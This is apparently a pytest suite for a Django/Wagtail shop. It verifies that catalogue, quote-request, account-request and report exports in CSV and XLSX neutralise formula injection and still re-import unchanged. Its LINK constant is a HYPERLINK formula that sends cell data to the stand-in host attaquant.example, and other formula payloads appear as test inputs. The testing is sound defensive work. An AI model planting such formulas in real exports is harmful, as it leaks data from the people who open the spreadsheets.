"""No export turns a value someone typed into a spreadsheet formula (CSV or XLSX), and the
catalogue export still re-imports as unchanged."""

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from django.core.management import call_command
from django.urls import URLResolver, get_resolver, resolve, reverse
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from core import tabular
from core.scheduler import run_once
from enquiries.models import AccountRequest, QuoteRequest
from storefront.importing import COLUMNS, CatalogueImport
from storefront.models import Brand, ProductAttribute
from tests.conftest import make_product
from tests.enquiries.test_quote_requests import quote_data

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://attaquant.example/?d="&A2;"Voir le devis")'
# What starts a formula in a spreadsheet, directly or after a dropped tab or line break.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
HOSTILE_TITLES = ["=1+1", "-Promo", "@SUM(A1)", "\tTab", "+33 Promo", "'=déjà marqué"]


def runs_as_formula(text):
    """What a spreadsheet runs: text not starting with the text mark, starting like a formula."""
    return isinstance(text, str) and text.startswith(FORMULA_STARTS)


def csv_rows(content, delimiter=","):
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=delimiter))


def xlsx_cells(content):
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def body(response):
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.mark.parametrize(
    "value", ["=1+1", "-50% Promo", "'=x", "''-y", "'t Hooft", "'", "", "Brut", "\r\n@a"]
)
def test_neutralised_text_reads_back_exactly(value):
    assert not runs_as_formula(tabular.neutralise_cell(value))
    assert tabular.restore_cell(tabular.neutralise_cell(value)) == value


def test_numbers_and_dates_stay_what_they_are():
    assert tabular.neutralise_cell(-5) == -5
    assert tabular.neutralise_cell(None) is None


# --- Catalogue ------------------------------------------------------------------------------


@pytest.fixture
def hostile_products(category):
    brand = Brand.objects.create(name="+Marque", slug="marque-plus")
    products = [
        make_product(category, 900 + number, title=title, brand=brand)
        for number, title in enumerate(HOSTILE_TITLES)
    ]
    ProductAttribute.objects.create(page=products[0], name="-Remise", value="=2+2")
    return products


def test_catalogue_exports_hold_no_formula(client, hostile_products):
    client.login(username="editeur", password="editeur-demo")
    rows = csv_rows(body(client.get("/admin/catalogue/export/csv/")), delimiter=";")
    names = {row[COLUMNS.index("nom")] for row in rows}
    assert {"'=1+1", "'-Promo", "'@SUM(A1)", "'\tTab", "''=déjà marqué"} <= names
    assert "'+Marque" in {row[COLUMNS.index("marque")] for row in rows}
    assert "'-Remise==2+2" in {row[COLUMNS.index("caracteristiques")] for row in rows}
    assert not [cell for row in rows for cell in row if runs_as_formula(cell)]

    cells = xlsx_cells(body(client.get("/admin/catalogue/export/xlsx/")))
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert not [cell.value for cell in cells if runs_as_formula(cell.value)]
    assert "'=1+1" in {cell.value for cell in cells}


@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_catalogue_with_formula_like_names_round_trips(tmp_path, hostile_products, extension):
    path = tmp_path / f"export.{extension}"
    call_command("export_catalogue", str(path), stdout=io.StringIO())
    report = CatalogueImport(io.BytesIO(path.read_bytes()), path.name, dry_run=True).run()
    assert report.ok, report.errors[:3]
    assert report.created == [] and report.updated == []
    assert {product.sku for product in hostile_products} <= set(report.unchanged)


# --- Quote and account requests (Wagtail's SpreadsheetExportMixin) ----------------------------


QUOTE_LISTING = "/admin/snippets/enquiries/quoterequest/"
ACCOUNT_LISTING = "/admin/snippets/enquiries/accountrequest/"


def exported(client, url, column, user="editeur"):
    """The values of ``column`` in the CSV export, and the XLSX cells of that column."""
    client.login(username=user, password=f"{user}-demo")
    rows = csv_rows(body(client.get(url, {"export": "csv"})))
    assert not [cell for row in rows for cell in row if runs_as_formula(cell)]
    values = [row[rows[0].index(column)] for row in rows[1:]]
    cells = xlsx_cells(body(client.get(url, {"export": "xlsx"})))
    header = [cell.value for cell in cells if cell.row == 1]
    column_cells = [
        cell for cell in cells if cell.row > 1 and cell.column == header.index(column) + 1
    ]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert not [cell.value for cell in cells if runs_as_formula(cell.value)]
    return values, column_cells


def test_quote_request_export_neutralises_what_the_prospect_typed(client):
    QuoteRequest.objects.create(
        company=LINK, contact_name="@Léa", email="lea@example.com", phone="+33 6 12 34 56 78"
    )
    values, cells = exported(client, QUOTE_LISTING, "Société")
    assert "'" + LINK in values
    assert "'" + LINK in {cell.value for cell in cells}


def test_account_request_export(client):
    AccountRequest.objects.create(
        company_name=LINK,
        siret="55210055400013",
        address="-1 rue du Port\n=2+2",
        contact_name="Anne Le Goff",
        email="anne@example.com",
        phone="+33 2 99 00 00 00",
    )
    client.login(username="editeur", password="editeur-demo")
    assert f"{ACCOUNT_LISTING}?export=csv" in client.get(ACCOUNT_LISTING).content.decode()

    values, cells = exported(client, ACCOUNT_LISTING, "Raison sociale")
    assert "'" + LINK in values and "'" + LINK in {cell.value for cell in cells}
    rows = csv_rows(body(client.get(ACCOUNT_LISTING, {"export": "csv"})))
    assert rows[0][:4] == ["Reçue le", "Statut", "Raison sociale", "SIRET"]
    row = dict(zip(rows[0], next(row for row in rows if row[2] == "'" + LINK), strict=True))
    assert row["Statut"] == "En attente" and row["SIRET"] == "55210055400013"
    assert row["Adresse"] == "'-1 rue du Port\n=2+2" and row["Téléphone"] == "'+33 2 99 00 00 00"
    assert len(rows) == AccountRequest.objects.count() + 1


# --- Every export view of the project --------------------------------------------------------


def _url_patterns(patterns):
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            yield from _url_patterns(pattern.url_patterns)
        else:
            yield pattern


def test_every_export_view_of_the_project_neutralises():
    declared = []
    for pattern in _url_patterns(get_resolver().url_patterns):
        view_class = getattr(pattern.callback, "view_class", None)
        if not (view_class and issubclass(view_class, SpreadsheetExportMixin)):
            continue
        initkwargs = pattern.callback.view_initkwargs
        # Views of this project, and Wagtail views given an export by this project's viewsets.
        if initkwargs.get("list_export") or not view_class.__module__.startswith("wagtail."):
            declared.append(view_class)
    assert len(declared) >= 4  # the SEO and brochure reports, the two request listings
    assert [view for view in declared if not issubclass(view, tabular.NeutralisedExportMixin)] == []


WAGTAIL_REPORTS = ["locked_pages", "workflow", "workflow_tasks", "site_history", "aging_pages"]


@pytest.mark.parametrize("name", WAGTAIL_REPORTS)
def test_wagtail_own_reports_answer_with_neutralised_exports(name):
    for url_name in (name, f"{name}_results"):
        view = resolve(reverse(f"wagtailadmin_reports:{url_name}")).func
        assert issubclass(view.view_class, tabular.NeutralisedExportMixin), url_name


def test_wagtail_own_reports_still_require_admin_access(client):
    response = client.get(reverse("wagtailadmin_reports:locked_pages"))
    assert response.status_code == 302 and "/admin/login/" in response["Location"]


def test_a_locked_page_with_a_formula_title_exports_as_text(client, category):
    product = make_product(category, 1, title=LINK)
    admin = get_user_model().objects.get(username="admin")
    product.locked, product.locked_by = True, admin
    product.save(update_fields=["locked", "locked_by"])
    values, cells = exported(client, reverse("wagtailadmin_reports:locked_pages"), "Titre", "admin")
    assert "'" + LINK in values
    assert "'" + LINK in {cell.value for cell in cells}


# --- Control characters: XLSX cannot hold them -----------------------------------------------


def test_control_characters_typed_in_a_request_do_not_break_the_xlsx_export(client, category):
    make_product(category, 1)
    response = client.post(
        "/devis/",
        quote_data([("TEST-00001", 1)], company="ACME\x01 Bell", message="\x07=2+2"),
        REMOTE_ADDR="192.0.2.99",
    )
    assert response.status_code == 302
    values, cells = exported(client, QUOTE_LISTING, "Société")
    assert "ACME\x01 Bell" in values  # CSV keeps what was typed
    assert "ACME Bell" in {cell.value for cell in cells}
    _, cells = exported(client, QUOTE_LISTING, "Message")
    assert "'=2+2" in {cell.value for cell in cells}  # no formula once the character is gone


def test_control_characters_in_a_product_name_do_not_break_the_xlsx_export(client, category):
    make_product(category, 1, title="Verre\x07 à pied")
    client.login(username="editeur", password="editeur-demo")
    cells = xlsx_cells(body(client.get("/admin/catalogue/export/xlsx/")))
    assert "Verre à pied" in {cell.value for cell in cells}


def test_search_terms_typed_by_visitors_are_neutralised(client):
    assert client.get("/search/", {"q": LINK}).status_code == 200
    run_once()  # the scheduler writes the counts kept in the cache (analytics app)
    url = reverse("wagtailsearchpromotions:search_terms")  # Wagtail's own address and menu
    values, cells = exported(client, url, "Terme(s) de recherche", user="admin")
    assert "'" + LINK.lower() in values
    assert "'" + LINK.lower() in {cell.value for cell in cells}
    for listing in (url, reverse("wagtailsearchpromotions:search_terms_results")):
        assert "attaquant.example" in client.get(listing).content.decode()
